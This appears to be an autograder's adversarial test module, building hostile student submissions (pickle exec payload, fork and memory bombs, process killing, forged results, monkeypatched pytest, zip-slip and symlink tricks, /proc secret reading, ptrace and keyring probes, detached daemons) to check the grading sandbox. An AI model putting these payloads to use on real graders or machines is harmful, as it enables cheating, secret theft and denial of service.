"""Hostile and malformed tp1_mlp submissions: each case writes one submission and says what must happen.

A case copies the reference solution (or the blank template), overrides functions by appending code to a
module (a later ``def`` wins), adds files, or builds a zip. ``attacked`` maps the checks it attacks to a
regular expression their feedback must match; they must score 0. Every other check of the run must
score what the untouched base deserves: full marks on the solution, 0 on the template. ``refused``: the
submission is refused as a whole, with a note matching it. Student code finds the paths a well-informed
attacker would know in ``@ROOT@`` (the kit), ``@COPY@`` (a world-readable second checkout of the reference
next to it, as a teacher's other clone would be), ``@OUT@`` (the grading output), ``@SPY@`` (a folder the tests
watch), ``@PORT@`` (a TCP listener of the tests on 127.0.0.1), ``@MARK@`` (a word to find processes by).
"""

from __future__ import annotations

import pickle
import shutil
import stat
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from autograder.config import ROOT

SOLUTION = ROOT / "solutions" / "tp1_mlp"
TEMPLATE = ROOT / "student_template" / "tp1_mlp"
M, T, A = "test_manual.py::", "test_torch.py::", "test_answers.py::"
I, F, S, L, G, R = (M + name for name in ("test_init_params", "test_forward", "test_softmax_stable",
                                          "test_loss_accuracy", "test_sgd", "test_manual_uses_no_autograd"))
N = T + "test_nn_model_structure"
ANSWERS = A + "test_numeric_answers"
#: The checks every case is graded on: fast ones, in the worker (I F S L G N) and static (R, ANSWERS).
#: (Not test_optimizer_settings: a first torch.optim call imports torch._dynamo, seconds in every worker.)
CHECKS = (I, F, S, L, G, R, N, ANSWERS)
MANUAL = (I, F, S, L, G)


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # "hostile" or "malformed"
    vectors: str  # what it tries, in one line
    build: Callable[[Path, dict], Path]  # (folder to write into, context) -> submission path
    attacked: dict[str, str] = field(default_factory=dict)  # check id -> regex of its feedback
    refused: str | None = None  # regex of the note when the whole submission is refused
    base: str = "solution"  # what the checks not attacked deserve: "solution" (pass) or "template" (fail)
    isolation: bool = False  # needs namespaces and an own uid (skipped on machines without them)
    spy: tuple[str, ...] = ()  # files under @SPY@ that must not exist afterwards


def fill(text: str, context: dict) -> str:
    for key, value in context.items():
        text = text.replace(f"@{key}@", str(value))
    return text


def folder(base: Path = SOLUTION, append: dict[str, str] | None = None, files: dict[str, str | bytes] | None = None,
           remove: tuple[str, ...] = ()) -> Callable[[Path, dict], Path]:
    """A builder: copy ``base``, append code to modules, write files, remove files."""
    def build(target: Path, context: dict) -> Path:
        shutil.copytree(base, target, ignore=shutil.ignore_patterns("__pycache__"))
        for name in remove:
            (target / name).unlink()
        for name, code in (append or {}).items():
            with open(target / name, "a", encoding="utf-8") as module:
                module.write("\n\n" + fill(textwrap.dedent(code), context))
        for name, content in (files or {}).items():
            path = target / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(fill(textwrap.dedent(content), context), encoding="utf-8")
        return target
    return build


def zipped(entries: Callable[[dict], list[tuple[zipfile.ZipInfo | str, bytes]]]) -> Callable[[Path, dict], Path]:
    """A builder: a zip of ``entries(context)`` (name or ZipInfo, bytes)."""
    def build(target: Path, context: dict) -> Path:
        target.parent.mkdir(parents=True, exist_ok=True)
        archive = target.with_suffix(".zip")
        with zipfile.ZipFile(archive, "w") as bundle:
            for name, data in entries(context):
                bundle.writestr(name, data)
        return archive
    return build


def solution_entries(prefix: str = "", skip: tuple[str, ...] = ()) -> list[tuple[str, bytes]]:
    return [(prefix + p.name, p.read_bytes()) for p in sorted(SOLUTION.iterdir()) if p.is_file() and p.name not in skip]


def symlink_entry(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # unix: external_attr carries the file type
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


class _Payload:
    """Unpickling this runs ``code``: what a crafted .OTTER_LOG does to a grader that loads it."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def crafted_pickle(marker: str) -> bytes:
    return pickle.dumps(_Payload(f"open({marker!r}, 'w').write('unpickled')"))


# --- hostile ----------------------------------------------------------------------------------------------

FORGED_VALUES = '''
import numpy as _np
import torch as _torch


class _AlwaysEqual:
    """Equal to everything, and claims to be a tensor."""

    @property
    def __class__(self):
        return _torch.Tensor

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __bool__(self):
        return True


class _ForgedArray(_np.ndarray):
    """An array equal to (and at distance 0 from) anything."""

    def __eq__(self, other):
        return _np.ones(_np.broadcast(_np.asarray(self), other).shape, bool)

    def __ne__(self, other):
        return _np.zeros(_np.broadcast(_np.asarray(self), other).shape, bool)

    def __sub__(self, other):
        return _np.zeros(_np.broadcast(_np.asarray(self), other).shape).view(_ForgedArray)

    __rsub__ = __sub__


class _ForgedTensor(_torch.Tensor):
    """A tensor equal to anything, whose numpy() gives a forged array."""

    def __eq__(self, other):
        return _torch.ones(self.shape, dtype=_torch.bool)

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        result = super().__torch_function__(func, types, args, kwargs or {})
        if hasattr(func, "__name__") and func.__name__ == "numpy":
            return _np.asarray(result).view(_ForgedArray)
        return result


def init_params(nx, nh, ny, generator=None):
    shapes = {"Wh": (nh, nx), "bh": (nh,), "Wy": (ny, nh), "by": (ny,)}
    return {k: _np.zeros(s).view(_ForgedArray) for k, s in shapes.items()}


def forward(params, X):
    fake = _AlwaysEqual()
    return fake, {k: fake for k in ("X", "htilde", "h", "ytilde", "yhat")}


def softmax(Z):
    return _torch.zeros_like(Z).as_subclass(_ForgedTensor)
'''

PATCH_LIBRARIES = '''
import numpy
import numpy.testing
import torch

numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.allclose = lambda *args, **kwargs: True
torch.Tensor.equal = lambda *args, **kwargs: True


def forward(params, X):
    ny = params["Wy"].shape[0]
    yhat = torch.zeros(X.shape[0], ny, dtype=X.dtype)
    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}
'''

PATCH_TEST_MACHINERY = '''
"""Imported by manual.py: patch pytest, otter and the kit inside the worker, then forge every reply."""
import importlib
import sys

import numpy as np

try:
    import _pytest.python
    import _pytest.runner
    import pytest

    pytest.fail = lambda *args, **kwargs: None
    pytest.skip = lambda *args, **kwargs: None
    _pytest.python.Function.runtest = lambda self: None
    _pytest.runner.check_interactive_exception = lambda *args, **kwargs: False
except Exception:
    pass
try:
    import otter.check.notebook

    otter.check.notebook.Notebook.check = lambda *args, **kwargs: None
except Exception:
    pass
for name in ("autograder.judges", "autograder.judges.values", "autograder.judges.gradients", "autograder.plugin",
             "autograder.results", "autograder.grade", "autograder.reference"):
    try:
        module = importlib.import_module(name)
        for attribute in dir(module):
            if callable(getattr(module, attribute)) and not attribute.startswith("__"):
                setattr(module, attribute, lambda *args, **kwargs: None)
    except Exception:
        pass
for path in ("@ROOT@/autograder/_pwned_@NAME@.py", "@ROOT@/autograder/judges/_pwned_@NAME@.py",
             "@ROOT@/_pwned_@NAME@.yml"):
    try:
        with open(path, "w") as handle:
            handle.write("CheckFailed = None\\n")
    except OSError:
        pass

import autograder.sandbox.probing as probing
import autograder.sandbox.wire as wire

FORGED = {"yhat": np.full((4, 3), 1 / 3), "outputs": {}, "returned": {}, "in_place": True, "Wh": np.zeros((2, 2)),
          "loss": 0.0, "acc": 1.0, "passed": True, "status": "passed", "score": 100}
_send = wire.send


def send(fd, value):
    if isinstance(value, dict) and "ok" in value:
        value = {"ok": True, "value": FORGED}
    _send(fd, value)


wire.send = send
probing.tensor = lambda value, what, ndim=None: np.zeros(1)
probing.StudentError = type("StudentError", (Exception,), {})
sys.modules["autograder.judges"] = sys.modules["autograder.judges.values"] = probing
'''

EXIT_AND_KILL = '''
import os
import signal
import sys

import torch


def init_params(nx, nh, ny, generator=None):
    """Kill the parent, the process group, everyone, and anything that looks like the grader."""
    for target in (os.getppid(), 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGKILL)
    except OSError:
        pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                command = handle.read()
            if b"pytest" in command or b"autograder" in command or b"unshare" in command:
                os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    return {"Wh": torch.zeros(nh, nx), "bh": torch.zeros(nh), "Wy": torch.zeros(ny, nh), "by": torch.zeros(ny)}


def forward(params, X):
    os._exit(0)


def softmax(Z):
    sys.exit(0)
'''

FORGE_RESULTS = '''
import json
import os

import torch

FORGED = json.dumps({"score": 1000, "output": "FORGED", "tests": [{"name": "FORGED", "score": 1000}]})


def forward(params, X):
    places = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/autograder/results", "@OUT@", "@OUT@/@NAME@",
              "@OUT@/zz_victim", "@ROOT@", os.path.join(os.getcwd(), "..", ".."), "/"]
    for place in places:
        for name, text in (("results.json", FORGED), ("grades.csv", "submission,score\\nFORGED,1000\\n"),
                           ("report.json", FORGED)):
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "w") as handle:
                    handle.write(text)
            except OSError:
                pass
    yhat = torch.zeros(X.shape[0], params["Wy"].shape[0], dtype=X.dtype)
    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}
'''

READ_SECRETS = '''
import gc
import glob
import importlib
import os
import runpy
import subprocess
import sys

import numpy as np
import torch

_honest = {"forward": forward, "softmax": softmax, "init_params": init_params}
FOUND = []


def _reference_path():
    """The reference manual.py from wherever it can be read: the kit, another checkout, git, processes'
    views, a search of the whole file system down to four levels (hidden folders too)."""
    paths = ["@ROOT@/solutions/tp1_mlp/manual.py", "@COPY@/solutions/tp1_mlp/manual.py",
             *glob.glob("/proc/*/cwd/solutions/tp1_mlp/manual.py"),
             *glob.glob("/proc/*/root@ROOT@/solutions/tp1_mlp/manual.py")]
    for depth in range(1, 5):
        paths += glob.glob("/*" * depth + "/solutions/tp1_mlp/manual.py", include_hidden=True)
    for path in paths:
        if os.access(path, os.R_OK):
            return path
    try:
        text = subprocess.run(["git", "--git-dir", "@ROOT@/.git", "show", "HEAD:solutions/tp1_mlp/manual.py"],
                              capture_output=True, text=True, timeout=5, check=True).stdout
    except Exception:
        return None
    with open("stolen_manual.py", "w") as handle:
        handle.write(text)
    return "stolen_manual.py"


def forward(params, X):
    for name in ("autograder.graders.tp1_mlp._reference", "autograder.reference"):
        try:
            module = importlib.import_module(name)
            FOUND.append(name)
            return module.manual.forward(params, X) if hasattr(module, "manual") else \\
                module.module("tp1_mlp", "manual").forward(params, X)
        except Exception:
            pass
    for path in ("@ROOT@/autograder/graders/tp1_mlp/test_manual.py", "@ROOT@/grading.yml"):
        try:
            with open(path) as handle:
                FOUND.append(handle.read()[:10])
        except OSError:
            pass
    path = _reference_path()
    if path:
        return runpy.run_path(path)["forward"](params, X)
    if FOUND:
        return _honest["forward"](params, X)
    yhat = torch.zeros(X.shape[0], params["Wy"].shape[0], dtype=X.dtype)
    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}


def softmax(Z):
    """Use the data set's labels or the grader's environment if they can be found."""
    secrets = [key for key in os.environ if any(w in key for w in ("AUTOGRADER_DATA", "SECRET", "TOKEN", "CI"))]
    for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ"):
        try:
            with open(path, "rb") as handle:
                if b"AUTOGRADER_ADVERSARIAL_SECRET" in handle.read():
                    secrets.append(path)
        except OSError:
            pass
    labels = [*glob.glob("/usr/share/datasets/*/*labels*"), *glob.glob("@ROOT@/.data/*/raw/*labels*"),
              *glob.glob("@SPY@/data/*/raw/*labels*")]
    if secrets or labels:
        return _honest["softmax"](Z)
    return torch.exp(Z)


def init_params(nx, nh, ny, generator=None):
    """Look for the grader's expectations up the stack and in the heap."""
    frame, seen = sys._getframe(1), []
    while frame is not None:
        seen += [value for key, value in frame.f_locals.items() if key in ("want", "expected", "shapes", "reference")]
        frame = frame.f_back
    seen += [obj for obj in gc.get_objects() if isinstance(obj, dict) and "want" in obj and "Wh" in obj]
    if seen:
        return _honest["init_params"](nx, nh, ny, generator)
    return {"Wh": torch.zeros(nh, nx), "bh": torch.zeros(nh), "Wy": torch.zeros(ny, nh), "by": torch.zeros(ny)}
'''

CONFTEST = '''
"""A conftest that would make every collected test pass (and leave a trace) if pytest ever loaded it."""
import pytest

open("@SPY@/conftest_loaded", "w").write("loaded")


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    items.clear()
'''

RESOURCE_BOMBS = '''
import os
import time

import numpy as np


def forward(params, X):
    """A fork bomb (each child forks again; they wait instead of spinning once the limit is reached)."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)


def softmax(Z):
    blocks = []
    while True:  # address space only: np.empty leaves the pages untouched (kind to a shared machine)
        blocks.append(np.empty(25 * 2**20))


def loss_accuracy(Yhat, Y):
    handles = []
    while True:
        handles.append(open(__file__))
'''

RUNAWAY = '''
import sys
import time


def init_params(nx, nh, ny, generator=None):
    chunk = "x" * 2**20 + "\\n"
    for _ in range(100):
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)


def forward(params, X):
    time.sleep(3600)


def softmax(Z):
    while True:
        pass


def loss_accuracy(Yhat, Y):
    raise ValueError("spam " * 10_000_000)
'''

ESCAPE = '''
import os
import socket
import subprocess
import sys

import torch

_honest_softmax = softmax


def forward(params, X):
    """Leave daemons behind: a double fork with setsid, and a detached subprocess."""
    command = [sys.executable, "-c", "import time; time.sleep(600)", "@MARK@"]
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, command)
        os._exit(0)
    subprocess.Popen(command, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    yhat = torch.zeros(X.shape[0], params["Wy"].shape[0], dtype=X.dtype)
    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}


def softmax(Z):
    """Ask an accomplice over the network: if any connection works, the 'answer' comes back right."""
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
            connection.sendall(b"GET /answers HTTP/1.0\\r\\n\\r\\n")
            return _honest_softmax(Z)
    except OSError:
        pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", @PORT@))
    except OSError:
        pass
    with open("/proc/net/dev") as devices:  # this network namespace's interfaces (not sysfs: bound from the host)
        interfaces = sorted(line.split(":")[0].strip() for line in devices.read().splitlines()[2:])
    with open("/proc/net/route") as routes:  # a header line, then one line per route
        routed = len([line for line in routes.read().splitlines()[1:] if line.strip()])
    if interfaces != ["lo"] or routed:
        return _honest_softmax(Z)  # a way out exists: the grader must never offer one
    return torch.exp(Z)
'''

#: Without namespaces (tests/adversarial/test_unisolated.py): find the kit through the grader's environment
#: and command line in /proc, read the reference by path and by glob, rewrite the grader's copy of the
#: submission, grading.yml and the output folder, reach a listener of the tests on 127.0.0.1.
UNISOLATED_CHEAT = '''
import glob
import os
import runpy
import socket

import torch

_honest = {"softmax": softmax, "init_params": init_params}


def _processes(name):
    """What every process's ``name`` file (environ, cmdline) holds, for those this uid may read."""
    texts = []
    for path in glob.glob(f"/proc/[0-9]*/{name}"):
        try:
            with open(path, "rb") as handle:
                texts.append(handle.read().replace(b"\\0", b"\\n").decode(errors="replace"))
        except OSError:
            pass
    return "\\n".join(texts)


def forward(params, X):
    roots = ["@ROOT@"] + [line.split("=", 1)[1] for line in _processes("environ").splitlines()
                          if line.startswith("AUTOGRADER_ROOT=")]
    paths = [f"{root}/solutions/tp1_mlp/manual.py" for root in roots]
    for depth in range(1, 5):
        paths += glob.glob("/*" * depth + "/solutions/tp1_mlp/manual.py")
    for path in paths:
        try:
            return runpy.run_path(path)["forward"](params, X)
        except Exception:
            pass
    yhat = torch.zeros(X.shape[0], params["Wy"].shape[0], dtype=X.dtype)
    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}


def softmax(Z):
    """Rewrite the grader's copy of this submission (named on its command line), grading.yml and --out;
    leave a file in /dev/shm (memory that would outlive the worker)."""
    with open("/dev/shm/@MARK@", "w") as handle:
        handle.write("left behind")
    targets = ["@ROOT@/grading.yml", "@OUT@/FORGED", "@OUT@/@NAME@/results.json"]
    for word in _processes("cmdline").split():
        if word.startswith("--submission="):
            targets.append(word.split("=", 1)[1] + "/manual.py")
    written = 0
    for path in targets:
        try:
            with open(path, "a") as handle:
                handle.write("\\n# FORGED\\n")
            written += 1
        except OSError:
            pass
    return _honest["softmax"](Z) if written else torch.exp(Z)


def _accomplice():
    """Whether the tests' listener on 127.0.0.1 (an accomplice) can be reached, over TCP or UDP."""
    try:
        socket.create_connection(("127.0.0.1", @PORT@), timeout=2).close()
        return True
    except OSError:
        pass
    try:
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", @PORT@)) > 0
    except OSError:
        return False


def init_params(nx, nh, ny, generator=None):
    """Read the data labels or the grader's secrets from any process's environment; ask an accomplice."""
    if glob.glob("/usr/share/datasets/*/*") or "AUTOGRADER_ADVERSARIAL_SECRET" in _processes("environ") \
            or _accomplice():
        return _honest["init_params"](nx, nh, ny, generator)
    return {"Wh": torch.zeros(nh, nx), "bh": torch.zeros(nh), "Wy": torch.zeros(ny, nh), "by": torch.zeros(ny)}
'''

KERNEL_SURFACE = '''
import ctypes
import os
import subprocess
import time

import torch

_libc = ctypes.CDLL(None, use_errno=True)
_honest = {"forward": forward, "softmax": softmax, "init_params": init_params}
NR = {"x86_64": {"keyctl": 250, "add_key": 248, "bpf": 321, "perf_event_open": 298, "clone": 56, "setns": 308},
      "aarch64": {"keyctl": 219, "add_key": 217, "bpf": 280, "perf_event_open": 241, "clone": 220, "setns": 268}}
NR = NR.get(os.uname().machine, NR["x86_64"])
CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS = 0x10000000, 0x40000000, 0x20000


def _nested_namespaces():
    """A user+net namespace of its own (root there: CAP_NET_ADMIN), three ways, and setns, mount."""
    command = ["unshare", "--user", "--map-root-user", "--net", "--mount", "sh", "-c", "ip link add x type veth || true"]
    works = [subprocess.run(command, capture_output=True, timeout=10).returncode == 0]
    child = _libc.syscall(NR["clone"], CLONE_NEWUSER | CLONE_NEWNET | 17, 0, 0, 0, 0)  # SIGCHLD
    if child == 0:
        os._exit(0)
    works.append(child > 0)
    if child > 0:
        os.waitpid(child, 0)
    if os.fork() == 0:  # unshare in a child: the worker itself stays as it is
        os._exit(0 if _libc.unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS) == 0 else 1)
    works.append(os.wait()[1] == 0)
    with open("/proc/self/ns/net") as handle:
        works.append(_libc.syscall(NR["setns"], handle.fileno(), CLONE_NEWNET) == 0)
    works.append(_libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
    return any(works)


def forward(params, X):
    if _nested_namespaces():
        return _honest["forward"](params, X)
    yhat = torch.zeros(X.shape[0], params["Wy"].shape[0], dtype=X.dtype)
    return yhat, {"X": X, "htilde": yhat, "h": yhat, "ytilde": yhat, "yhat": yhat}


def softmax(Z):
    """Read the teacher's key from the session keyring; leave a key of its own in the session and user
    keyrings; load eBPF."""
    keyctl = lambda *args: _libc.syscall(NR["keyctl"], *args)
    found = keyctl(10, -3, b"user", b"@MARK@-teacher", 0)  # KEYCTL_SEARCH in @s
    read = found > 0 and keyctl(11, found, ctypes.create_string_buffer(64), 64) > 0  # KEYCTL_READ
    added = [_libc.syscall(NR["add_key"], b"user", b"@MARK@-student", b"left", 4, ring) > 0 for ring in (-3, -4)]
    attr = ctypes.create_string_buffer(128)
    attr.raw = (1).to_bytes(4, "little") + (4).to_bytes(4, "little") * 2 + (1).to_bytes(4, "little") + bytes(112)
    bpf = _libc.syscall(NR["bpf"], 0, attr, 128) >= 0  # BPF_MAP_CREATE, a hash map
    if read or any(added) or bpf:
        return _honest["softmax"](Z)
    return torch.exp(Z)


def init_params(nx, nh, ny, generator=None):
    """Trace a sibling (ptrace attach, process_vm_readv) and open a perf event."""
    sibling = os.fork()
    if sibling == 0:
        time.sleep(30)
        os._exit(0)
    traced = _libc.ptrace(16, sibling, None, None) == 0  # PTRACE_ATTACH
    local, remote = ctypes.create_string_buffer(8), ctypes.create_string_buffer(8)
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(local), 8), (ctypes.c_void_p * 2)(ctypes.addressof(remote), 8)
    readv = _libc.process_vm_readv(sibling, iov[0], 1, iov[1], 1, 0) == 8
    os.kill(sibling, 9)
    os.waitpid(sibling, 0)
    perf = _libc.syscall(NR["perf_event_open"], ctypes.create_string_buffer(128), 0, -1, -1, 0) >= 0
    if traced or readv or perf:
        return _honest["init_params"](nx, nh, ny, generator)
    return {"Wh": torch.zeros(nh, nx), "bh": torch.zeros(nh), "Wy": torch.zeros(ny, nh), "by": torch.zeros(ny)}
'''


def _regenerate_labels_train(context: dict) -> str:
    return '''
import torch

import data


class _LookUp(torch.nn.Module):
    """Predicts the label of every point of the grader's split, regenerated from the seed it was given."""

    def __init__(self, seed):
        super().__init__()
        split = data.circles(n_train=200, n_test=400, seed=seed)
        self.points = torch.cat([split["Xtrain"], split["Xtest"]])
        self.labels = torch.cat([split["Ytrain"], split["Ytest"]]).float()
        self.dummy = torch.nn.Parameter(torch.zeros(1))

    def forward(self, X):
        """The label of the very same point when the split was regenerated exactly, else class 0."""
        distance, nearest = torch.cdist(X.to(self.points.dtype), self.points).min(dim=1)
        exact = (distance < 1e-6).unsqueeze(1)
        return torch.where(exact, self.labels[nearest], torch.tensor([1.0, 0.0]))


def train_manual(data_, nh=10, eta=0.03, batch_size=10, epochs=150, seed=0, quiet=False):
    return _LookUp(seed), {"loss": [0.0]}
'''


HOSTILE = [
    Case("forged_values", "hostile",
         "always-equal object claiming to be a tensor (forward), torch.Tensor subclass forging ==, "
         "__torch_function__ and numpy() (softmax), ndarray subclass forging == and - (init_params)",
         folder(append={"manual.py": FORGED_VALUES}),
         attacked={I: "should be a torch.Tensor, got _ForgedArray", F: "detach|should", S: "sum to 1|differs"}),
    Case("monkeypatch_libraries", "hostile",
         "patches numpy/torch comparisons (allclose, array_equal, isclose, testing) at import, forward returns zeros",
         folder(append={"manual.py": PATCH_LIBRARIES}), attacked={F: "differs from the expected values"}),
    Case("monkeypatch_test_machinery", "hostile",
         "patches pytest, otter, the kit's judges/plugin/results and the worker's wire and probing modules, "
         "forges every reply, writes into the kit",
         folder(append={"manual.py": "import tricks  # noqa\n"}, files={"tricks.py": PATCH_TEST_MACHINERY}),
         attacked={I: "", F: "", S: "", L: "", G: "", N: "", R: "importlib.import_module"}, isolation=True),
    Case("exit_and_kill", "hostile",
         "os.kill of the parent, its group, -1 and every pytest/autograder process (init_params), "
         "os._exit(0) (forward), sys.exit(0) (softmax)",
         folder(append={"manual.py": EXIT_AND_KILL}),
         attacked={I: "mean 0", F: r"stopped \(exit code 0", S: "SystemExit"}, isolation=True),
    Case("forge_results", "hostile",
         "writes results.json/grades.csv/report.json in the cwd, HOME, /tmp, /autograder/results, the output "
         "folder and the kit, and ships pre-made ones",
         folder(append={"manual.py": FORGE_RESULTS},
                files={"results.json": '{"score": 1000, "output": "FORGED"}', "grades.csv": "FORGED,1000\n",
                       "out/results.json": '{"score": 1000, "output": "FORGED"}'}),
         attacked={F: "differs from the expected values"}, isolation=True),
    Case("read_secrets", "hostile",
         "reads the reference (kit, another checkout, git, /proc/*/cwd, a search), imports the grader's _reference, reads hidden "
         "checks and grading.yml (forward); data labels and environment (softmax); the caller's stack and the "
         "heap (init_params)",
         folder(append={"manual.py": READ_SECRETS}),
         attacked={F: "differs from the expected values", S: "sum to 1|differs|NaN", I: "mean 0",
                   R: "importlib.import_module"}, isolation=True),
    Case("pickles_and_otter_log", "hostile",
         "ships a crafted .OTTER_LOG and pickles whose unpickling would run code; otherwise honest",
         lambda target, context: folder(files={
             ".OTTER_LOG": crafted_pickle(f"{context['SPY']}/otter_log_unpickled"),
             "weights.pkl": crafted_pickle(f"{context['SPY']}/pickle_unpickled"),
             "results.pickle": crafted_pickle(f"{context['SPY']}/pickle_unpickled")})(target, context),
         spy=("otter_log_unpickled", "pickle_unpickled")),
    Case("extra_test_files", "hostile",
         "blank template plus conftest.py (hooks forcing every test to pass), test_*.py, pytest.ini and "
         "pyproject.toml adding options",
         folder(TEMPLATE, files={"conftest.py": CONFTEST,
                                 "test_manual.py": "def test_forward():\n    pass\n",
                                 "test_answers.py": "def test_written_answers():\n    pass\n",
                                 "pytest.ini": "[pytest]\naddopts = -p conftest\n",
                                 "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p conftest'\n"}),
         base="template", spy=("conftest_loaded",)),
    Case("zip_slip", "hostile", "zip entries with ../ and an absolute path aiming at a watched folder",
         zipped(lambda context: [*solution_entries(), ("../" * 12 + str(context["SPY"]).lstrip("/") + "/slip.py", b"x=1"),
                                 (f"{context['SPY']}/absolute.py", b"x=1")]),
         refused="unsafe entry", spy=("slip.py", "absolute.py")),
    Case("links_out_of_folder", "hostile",
         "folder whose manual.py and answers.yml are symlinks to the reference, plus a link to solutions/",
         lambda target, context: _links(target), attacked={
             **{check: "manual.py was not found" for check in (*MANUAL, R)}, ANSWERS: "answers.yml was not found"}),
    Case("zip_symlink", "hostile", "zip whose manual.py entry is a symlink to the reference",
         zipped(lambda context: [*solution_entries(skip=("manual.py",)),
                                 symlink_entry("manual.py", str(SOLUTION / "manual.py"))]),
         attacked={check: "manual.py was not found" for check in (*MANUAL, R)}),
    Case("symlinked_submission", "hostile", "the submission itself is a symlink to the reference",
         lambda target, context: _symlink(target, SOLUTION), refused="symbolic link"),
    Case("resource_bombs", "hostile", "fork bomb (forward), memory until it runs out (softmax), open files "
         "until the limit (loss_accuracy)",
         folder(append={"manual.py": RESOURCE_BOMBS}),
         attacked={F: "timed out|stopped|Resource temporarily unavailable", S: "MemoryError|stopped",
                   L: "Too many open files"}, isolation=True),
    Case("runaway", "hostile", "prints 200 MB (init_params), sleeps past the timeout (forward), infinite "
         "loop (softmax), a 50 MB error message (loss_accuracy)",
         folder(append={"manual.py": RUNAWAY}),
         attacked={I: "File too large|stopped|should return", F: "timed out after", S: "timed out after",
                   L: r"ValueError: spam.*characters cut"}),
    Case("kernel_surface", "hostile", "nested user+net namespaces (unshare(1), clone and unshare(2) with "
         "CLONE_NEWUSER|CLONE_NEWNET), setns, mount (forward); the teacher's key in the session keyring, keys "
         "left in the session and user keyrings, an eBPF map (softmax); ptrace and process_vm_readv of a "
         "sibling, perf_event_open (init_params)",
         folder(append={"manual.py": KERNEL_SURFACE}),
         attacked={F: "differs from the expected values", S: "sum to 1|differs|NaN", I: "mean 0"}),
    Case("escape_and_network", "hostile", "double fork + setsid daemon and a detached subprocess (forward); "
         "TCP and UDP to the tests' listeners on 127.0.0.1, any interface or route out (softmax)",
         folder(append={"manual.py": ESCAPE}),
         attacked={F: "differs from the expected values", S: "sum to 1|differs|NaN"}, isolation=True),
]


def _links(target: Path) -> Path:
    folder()(target, {})
    for name in ("manual.py", "answers.yml"):
        (target / name).unlink()
        (target / name).symlink_to(SOLUTION / name)
    (target / "solutions").symlink_to(SOLUTION.parent, target_is_directory=True)
    return target


def _symlink(target: Path, to: Path) -> Path:
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(to, target_is_directory=True)
    return target


# --- malformed --------------------------------------------------------------------------------------------

def _edit(name: str, replacements: list[tuple[str, str]], append: str = "") -> Callable[[Path, dict], Path]:
    """The solution with ``old`` -> ``new`` in module ``name`` (each ``old`` must occur exactly once)."""
    def build(target: Path, context: dict) -> Path:
        folder()(target, context)
        path = target / name
        text = path.read_text(encoding="utf-8")
        for old, new in replacements:
            assert text.count(old) == 1, (name, old)
            text = text.replace(old, new)
        path.write_text(text + append, encoding="utf-8")
        return target
    return build


def _non_utf8(target: Path, context: dict) -> Path:
    folder()(target, context)
    path = target / "manual.py"
    # Latin-1 inside a string (Python 3.11 lets invalid UTF-8 pass in comments)
    path.write_bytes(path.read_bytes().replace(b'"""Part 1.2.1', '"""Partie 1.2.1 (r\u00e9seau \u00e0 la main)'.encode("latin-1"), 1))
    return target


def _huge(name: str, size: int) -> Callable[[Path, dict], Path]:
    def build(target: Path, context: dict) -> Path:
        folder()(target, context)
        with open(target / name, "ab") as handle:
            handle.write(b"#" * size if name.endswith(".py") else b"\0" * size)
        return target
    return build


def _nested(context: dict) -> list[tuple[str, bytes]]:
    stray = (TEMPLATE / "manual.py").read_bytes()  # an old draft left at the top
    return [("manual.py", stray), *solution_entries("Downloads/tp1_mlp/")]


def _write(name: str, data: bytes) -> Callable[[Path, dict], Path]:
    def build(target: Path, context: dict) -> Path:
        target.mkdir(parents=True, exist_ok=True)
        path = target / name
        path.write_bytes(data)
        return path
    return build


